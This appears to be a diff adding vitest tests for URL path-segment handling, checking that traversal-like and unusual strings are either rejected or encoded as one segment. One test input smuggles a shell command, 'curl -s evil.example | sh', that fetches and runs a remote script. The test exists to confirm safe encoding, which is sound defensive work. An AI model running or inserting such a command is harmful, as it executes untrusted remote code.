@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { UsageError } from '../../src/errors.js';
-import { buildUrl, checkTransport, displayUrl, isLoopbackHost, parseBaseUrl, sameOrigin } from '../../src/http/url.js';
+import { buildUrl, checkPathSegment, checkTransport, displayUrl, isLoopbackHost, parseBaseUrl, pathSegmentProblem, sameOrigin } from '../../src/http/url.js';
 
 describe('parseBaseUrl', () => {
   it('normalises to a folder URL without query or fragment', () => {
@@ -91,5 +91,24 @@ describe('sameOrigin and displayUrl', () => {
 
   it('shows no fragment', () => {
     expect(displayUrl(new URL('https://h.example/p?q=1#frag'))).toBe('https://h.example/p?q=1');
+  });
+});
+
+describe('path segments', () => {
+  it('refuses what cannot be one segment, before any URL is built', () => {
+    for (const bad of ['', '.', '..', '\ud800', 'a\udc00b']) {
+      expect(pathSegmentProblem(bad), JSON.stringify(bad)).toBeDefined();
+      expect(() => checkPathSegment(bad)).toThrow(UsageError);
+      expect(() => buildUrl(new URL('https://x.example/'), ['api', 'keys', bad])).toThrow(UsageError);
+    }
+  });
+
+  it('takes anything else, encoded as one segment', () => {
+    for (const good of ['...', 'a/../b', '%2e%2e', 'key_1; curl -s evil.example | sh #', '\ud83d\ude00', ' ']) {
+      expect(pathSegmentProblem(good), JSON.stringify(good)).toBeUndefined();
+      const url = buildUrl(new URL('https://x.example/v1/'), ['api', 'keys', good]);
+      expect(url.pathname.split('/')).toHaveLength(5);
+      expect(decodeURIComponent(url.pathname.split('/')[4] ?? '')).toBe(good);
+    }
   });
 });
